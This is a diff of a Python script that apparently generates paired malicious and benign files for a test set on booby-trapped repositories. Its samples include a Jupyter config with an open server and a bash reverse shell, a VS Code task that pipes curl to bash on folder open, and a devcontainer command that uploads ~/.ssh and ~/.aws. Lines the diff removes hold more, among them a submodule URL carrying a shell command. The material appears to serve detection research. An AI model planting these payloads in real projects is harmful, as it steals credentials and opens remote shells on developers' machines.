@@ -89,22 +89,19 @@ def add(out):
     )
     put(
         "garbage_collector_callback",
-        MODELING + "\nimport gc\nimport runpy\n\ngc.callbacks.append(lambda phase, info: runpy.run_path('special_tokens_map.txt') if phase == 'stop' else None)\n",
-        MODELING + "\nimport gc\nimport logging\n\ngc.callbacks.append(lambda phase, info: logging.debug('%s %s', phase, info) if phase == 'stop' else None)\n",
-        None,
-        "modeling_ranker.py",
+        {
+            "modeling_ranker.py": MODELING + "\nimport gc\nimport runpy\n\ngc.callbacks.append(lambda phase, info: runpy.run_path('special_tokens.txt') if phase == 'stop' else None)\n",
+            "special_tokens.txt": CODE + "\n",
+        },
+        {
+            "modeling_ranker.py": MODELING + "\nimport gc\nimport logging\n\ngc.callbacks.append(lambda phase, info: logging.debug('%s %s', phase, info) if phase == 'stop' else None)\n",
+            "special_tokens.txt": "[CLS]\n[SEP]\n",
+        },
+        "import",
         why="the next garbage collection of the process that imports the module",
     )
     # pdb reads .pdbrc of the current folder before its first prompt.
     put("pdb_start_file", f"!{CODE}\ncontinue\n", "alias pi for k in %1.__dict__: print(k)\nalias ll list 1, 40\n", "s.pdbrc", ".pdbrc", why="pdb.Pdb().set_trace() in the folder")
-    put(
-        "ipython_start_config",
-        'c = get_config()\nc.TerminalIPythonApp.exec_lines = ["%autoreload 2", "!curl -fsSL http://185.199.110.7/k.sh | sh"]\n',
-        'c = get_config()\nc.TerminalIPythonApp.exec_lines = ["%load_ext autoreload", "%autoreload 2"]\nc.InlineBackend.figure_format = "retina"\n',
-        None,
-        "ipython_config.py",
-        why="IPython before 8.0.1 (CVE-2022-21699), later with IPYTHONDIR=.",
-    )
     put(
         "jupyter_server_config_of_the_folder",
         "c = get_config()\nc.ServerApp.token = ''\nc.ServerApp.password = ''\nc.ServerApp.ip = '0.0.0.0'\nc.ServerApp.allow_origin = '*'\nc.ServerApp.disable_check_xsrf = True\nimport os; os.spawnlp(os.P_NOWAIT, 'bash', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n",
@@ -174,14 +171,6 @@ def add(out):
         why="git status in the folder (an archive with its .git)",
     )
     put(
-        "submodule_url_is_a_command",
-        '[submodule "third_party/kernels"]\n\tpath = third_party/kernels\n\turl = "ext::sh -c curl% -s% http://203.0.113.9/g|sh"\n\tupdate = checkout\n',
-        '[submodule "third_party/kernels"]\n\tpath = third_party/kernels\n\turl = https://github.com/NVIDIA/cutlass\n\tupdate = checkout\n',
-        None,
-        ".gitmodules",
-        why="git clone --recurse-submodules with protocol.ext.allow",
-    )
-    put(
         "editor_task_on_folder_open",
         {".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [{"label": "index", "type": "shell", "command": "curl -s https://cdn.ranker-models.net/v | bash", "presentation": {"reveal": "never"}, "runOptions": {"runOn": "folderOpen"}}]}), "config.json": "{}"},
         {".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [{"label": "test", "type": "shell", "command": "pytest -q tests", "presentation": {"reveal": "never"}, "runOptions": {"runOn": "default"}}]}), "config.json": "{}"},
@@ -192,12 +181,6 @@ def add(out):
         {".devcontainer/devcontainer.json": json.dumps({"image": "pytorch/pytorch:latest", "initializeCommand": "sh -c 'tar cz ~/.ssh ~/.aws | curl -T - https://drop.ranker-models.net/'", "postCreateCommand": "pip install -r requirements.txt"})},
         {".devcontainer/devcontainer.json": json.dumps({"image": "pytorch/pytorch:latest", "initializeCommand": "mkdir -p .cache/huggingface", "postCreateCommand": "pip install -r requirements.txt"})},
         why="Dev Containers: initializeCommand runs on the host, before the container",
-    )
-    put(
-        "deepspeed_environment",
-        {".deepspeed_env": "NCCL_DEBUG=INFO\nPYTHONSTARTUP=/tmp/.x.py\nLD_PRELOAD=./libnccl-fix.so.1\n", "ds_config.json": '{"train_batch_size": 16}'},
-        {".deepspeed_env": "NCCL_DEBUG=INFO\nNCCL_IB_DISABLE=1\nCUDA_DEVICE_MAX_CONNECTIONS=1\n", "ds_config.json": '{"train_batch_size": 16}'},
-        why="the deepspeed launcher exports it to every node",
     )
     put(
         "attention_kernel_of_a_foreign_repository",
@@ -252,14 +235,6 @@ def add(out):
         {"ranker/config.pbtxt": 'name: "ranker"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 8\nmodel_operations { op_library_filename: "../../uploads/libops.so" }\n', "ranker/1/model.savedmodel/fingerprint.pb": b"\x08\x01"},
         {"ranker/config.pbtxt": 'name: "ranker"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 8\ninstance_group [ { kind: KIND_CPU count: 2 } ]\n', "ranker/1/model.savedmodel/fingerprint.pb": b"\x08\x01"},
         why="Triton's TensorFlow backend loads the shared library; the path leaves the repository",
-    )
-    put(
-        "dockerfile_frontend",
-        "# syntax=docker.io/ranker-models/dockerfile:1.7-labs\nFROM python:3.12-slim\nCOPY . /srv\nRUN pip install --no-cache-dir torch\n",
-        "# syntax=docker/dockerfile:1.7-labs\nFROM python:3.12-slim\nCOPY . /srv\nRUN pip install --no-cache-dir torch\n",
-        None,
-        "Dockerfile",
-        why="BuildKit runs a foreign frontend image that writes the build",
     )
     put(
         "docker_secret_leaves",
